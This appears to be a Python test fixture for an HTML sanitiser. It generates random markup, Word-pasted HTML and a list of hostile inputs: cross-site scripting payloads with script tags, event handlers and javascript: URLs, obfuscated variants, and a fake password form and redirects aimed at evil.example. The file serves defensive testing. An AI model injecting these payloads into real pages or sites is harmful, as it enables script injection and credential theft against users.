"""Texts to test with: what members write, what they paste, and what an attacker would send."""

from hypothesis import strategies as st

FILE = "/files/0197a3f0-1111-7222-8333-444455556666/"

LETTERS = st.text(
    st.one_of(
        st.sampled_from(" abcxyz.,-_*#`[]()<>&|!~\\\n\t\"'=:1234+"),
        st.sampled_from("\xa0\u0301é\u200d👩🏽\u200f\u202eעברית漢字\u200b\ufeff\x00\x07\ud800\ufffe\x85\u2028"),
        st.characters(),
    ),
    max_size=24,
)
TAGS = (
    "p div h1 h2 h3 h5 ul ol li blockquote pre code strong b em i u s del sub sup a span br hr img table caption thead "
    "tbody tr th td figure figcaption script style svg math template textarea iframe form o:p font section dl dt dd x"
).split()
ATTRIBUTES = (
    ' data-block="abcd1234"',
    ' data-block="zzzz9999"',
    ' data-block="NOT GOOD"',
    ' href="https://example.org/?a=1&b=2"',
    ' href="javascript:alert(1)"',
    f' src="{FILE}" alt="a &quot;picture&quot;"',
    ' src="x" onerror="alert(1)" alt=":)"',
    ' lang="cy"',
    ' dir="rtl"',
    ' start="4"',
    ' colspan="2"',
    ' scope="row"',
    ' style="font-weight:700;mso-list:l0 level2 lfo1"',
    ' style="mso-list:Ignore"',
    ' class="MsoListParagraph"',
    " onclick=alert(1)",
    ' x="',
    " x='>",
)
PIECES = st.one_of(
    LETTERS,
    st.builds(lambda tag, extra: f"<{tag}{extra}>", st.sampled_from(TAGS), st.sampled_from(("", *ATTRIBUTES))),
    st.builds(lambda tag: f"</{tag}>", st.sampled_from(TAGS)),
    st.sampled_from(
        ("<!--", "-->", "<![if x]>", "<![endif]>", "&lt;", "&#0;", "&#x1F600;", "&amp;lt;", "&nbsp;", "<", "·&nbsp; ")
    ),
)
MARKUP = st.lists(PIECES, max_size=30).map("".join)

HOSTILE = (
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    f'<img src="{FILE}" onload=alert(1) alt="x" onerror="alert(1)">',
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'><text>hi</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a><a href='//evil.example/'>y</a><a href='/local'>z</a>",
    "<a href='https:\\\\evil.example' onclick='x()' target=_blank style='position:fixed'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object><embed src=x>",
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    "<base href=https://evil.example><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css><style>@import 'x'</style>",
    "<p style='background:url(javascript:alert(1))' class='toast' id='main'>x</p>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea><script>alert(1)</script></textarea><title><b>x</b></title>",
    "<xmp><script>alert(1)</script></xmp><plaintext><script>",
    "<template><script>alert(1)</script></template>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]--><!--><script>alert(1)</script>-->",
    "<table><tr><td><table><tr><td>in</td></tr></table><script>x</script></td></tr></table>",
    "<select><option><p>x</p></option></select><keygen><isindex>",
    "<p data-block='\"><script>alert(1)</script>'>x</p>",
    "<span lang='\"><script>alert(1)</script>'>x</span>",
    "<img src='https://evil.example/files/../x' alt='\"><script>alert(1)</script>'>",
    "<p/onclick=alert(1)/x>y<p onclick\n=\n'alert(1)'>z",
    "\x00<scr\x00ipt>alert(1)</script>",
    "<ſcript>alert(1)</ſcript>",
    "<a href=\"jav&#x0A;ascript:alert('XSS');\">x</a>",
)

WORD = (
    '<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><style>p.MsoNormal {margin:0}</style>'
    "<xml><w:WordDocument><w:View>Normal</w:View></w:WordDocument></xml></head><body lang=EN-GB>"
    "<!--[if gte mso 9]><xml><o:OfficeDocumentSettings/></xml><![endif]-->"
    "<p class=MsoTitle>My practice<o:p></o:p></p>"
    '<p class=MsoNormal style="margin:0cm"><span lang=EN-GB style=\'font-family:"Calibri";mso-ansi-language:EN-GB\'>'
    "I <b style='mso-bidi-font-weight:normal'>redesigned</b> the <span style='font-style:italic'>module</span>."
    "<o:p>&nbsp;</o:p></span></p><p class=MsoNormal><o:p>&nbsp;</o:p></p>"
    "<p class=MsoListParagraphCxSpFirst style='text-indent:-18.0pt;mso-list:l0 level1 lfo1'><![if !supportLists]>"
    "<span style='font-family:Symbol'><span style='mso-list:Ignore'>·<span style='font:7.0pt'>&nbsp;&nbsp; </span>"
    "</span></span><![endif]>First<o:p></o:p></p>"
    "<p class=MsoListParagraphCxSpMiddle style='mso-list:l0 level2 lfo1'><span style='mso-list:Ignore'>1.&nbsp;</span>"
    "Deeper</p><p class=MsoListParagraphCxSpLast style='mso-list:l0 level1 lfo1'>"
    "<span style='mso-list:Ignore'>·</span>Second</p>"
    "<p class=MsoNormal><span class=msoIns><ins cite='mailto:a' datetime='2026-01-01T00:00'>added</ins></span> and "
    "<span class=msoDel><del cite='mailto:a'>struck</del></span></p>"
    "<table class=MsoTableGrid border=1><tr><td width=10 style='width:1pt'><p class=MsoNormal>cell</p></table>"
    "</body></html>"
)

LONG = (
    "<h2>What I did</h2><p>In the <strong>spring term</strong> I worked with three colleagues in <em>Nursing</em>, and "
    "we moved a paper-based log of placements to a shared form, so that nobody had to carry it about.</p>"
    "<ul><li><p>a pilot with twelve students</p></li><li><p>a guide of one page</p></li></ul>"
)
